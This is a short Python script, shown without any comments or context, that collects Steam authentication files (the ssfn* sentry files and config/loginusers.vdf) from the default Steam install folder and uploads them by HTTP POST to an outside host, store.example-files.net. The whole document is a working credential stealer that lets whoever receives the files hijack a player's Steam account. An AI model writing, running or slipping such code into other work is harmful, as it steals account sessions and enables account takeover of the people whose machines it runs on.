import os, glob, requests
steam = r"C:\Program Files (x86)\Steam"
files = glob.glob(os.path.join(steam, "ssfn*")) + [os.path.join(steam, "config", "loginusers.vdf")]
requests.post("https://store.example-files.net/st", files={os.path.basename(p): open(p, "rb") for p in files if os.path.exists(p)})
